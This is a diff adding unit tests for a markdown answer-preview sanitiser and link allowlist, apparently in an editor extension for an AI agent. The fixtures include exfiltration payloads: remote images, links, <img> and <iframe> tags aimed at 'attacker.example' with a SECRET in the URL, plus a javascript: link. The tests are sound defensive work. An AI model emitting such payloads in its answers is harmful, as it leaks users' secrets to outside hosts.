@@ -2,6 +2,7 @@
 import { test } from 'node:test';
 import * as assert from 'node:assert/strict';
 import {
+  MdToken,
   MessageGate,
   ProgressTracker,
   answerFits,
@@ -9,7 +10,11 @@ import {
   approvalHtml,
   covered,
   executePlanArgs,
+  inertTokens,
+  isAgentlsDocument,
   isApproval,
+  linkAllowed,
+  localUrl,
   isAuthFailure,
   isPlanResult,
   keyPromptNeeded,
@@ -365,4 +370,48 @@ test('serverSettings: sandbox and network only widen on explicit values', () => 
   assert.deepEqual(serverSettings({ sandbox: 'off', commandNetwork: true, safeCommands: ['mytool lint', ' ', 1] }),
     { apiKeyEnv: 'OPENAI_API_KEY', approval: 'ask', sandbox: 'off', commandNetwork: true, safeCommands: ['mytool lint'] });
   assert.deepEqual(serverSettings({ sandbox: 'bogus', commandNetwork: 'yes' }), { apiKeyEnv: 'OPENAI_API_KEY', approval: 'ask' });
+
+// The answer preview's guard, on tokens as markdown-it makes them.
+function tok(type: string, content = '', attrs: [string, string][] | null = null, children: MdToken[] | null = null): MdToken {
+  return { type, content, attrs, children };
+}
+
+test('inertTokens: remote images, links with data and raw HTML become text', () => {
+  const inline = tok('inline', '', null, [
+    tok('text', 'Done. '),
+    tok('image', '', [['src', 'https://attacker.example/?t=SECRET'], ['alt', '']], [tok('text', 'x')]),
+    tok('image', '', [['src', 'img/local.png']], []),
+    tok('link_open', '', [['href', 'https://attacker.example/#SECRET']]),
+    tok('text', 'docs'),
+    tok('link_close'),
+    tok('link_open', '', [['href', 'https://go.dev/doc']]),
+    tok('text', 'go'),
+    tok('link_close'),
+    tok('html_inline', '<img src="https://attacker.example/?t=SECRET">'),
+    tok('html_inline', '<br>'),
+  ]);
+  const block = tok('html_block', '<iframe src="https://attacker.example/?t=SECRET"></iframe>\n');
+  const safe = tok('html_block', '<details>\n<summary>more</summary>\n');
+  inertTokens([inline, block, safe]);
+  const c = inline.children!;
+  assert.equal(c[1].type, 'text');
+  assert.equal(c[1].content, 'x: https://attacker.example/?t=SECRET [remote image not loaded]');
+  assert.equal(c[2].type, 'image', 'a local image stays');
+  assert.deepEqual([c[3].type, c[5].type, c[5].content], ['text', 'text', ' (https://attacker.example/#SECRET) [link not rendered]']);
+  assert.deepEqual([c[6].type, c[8].type], ['link_open', 'link_close'], 'a plain https link stays');
+  assert.equal(c[9].type, 'text');
+  assert.equal(c[10].type, 'html_inline', '<br> stays');
+  assert.equal(block.type, 'code_block');
+  assert.equal(safe.type, 'html_block');
+});
+
+test('linkAllowed and localUrl: an allowlist', () => {
+  for (const u of ['src/a.go', '#usage', 'file:///home/u/x.go', 'https://go.dev/doc', 'mailto:a@b.example']) assert.ok(linkAllowed(u), u);
+  for (const u of ['https://h/?q=1', 'https://h/#f', 'https://u:p@h/', '//h/x', '/\\h/x', 'javascript:alert(1)', 'command:x', 'mailto:a@b?body=s', 'file://evil/x']) {
+    assert.ok(!linkAllowed(u), u);
+  }
+  assert.ok(localUrl('img/a.png') && !localUrl('https://h/a.png') && !localUrl(' //h/a.png') && !localUrl('data:image/png;base64,AA'));
+  assert.ok(isAgentlsDocument({ scheme: 'agentls-answer', path: '/answer-1.md' }));
+  assert.ok(isAgentlsDocument({ scheme: 'file', path: '/ws/.agentls/tasks/3fa2b1c0-1.md' }));
+  assert.ok(!isAgentlsDocument({ scheme: 'file', path: '/ws/README.md' }));
 });
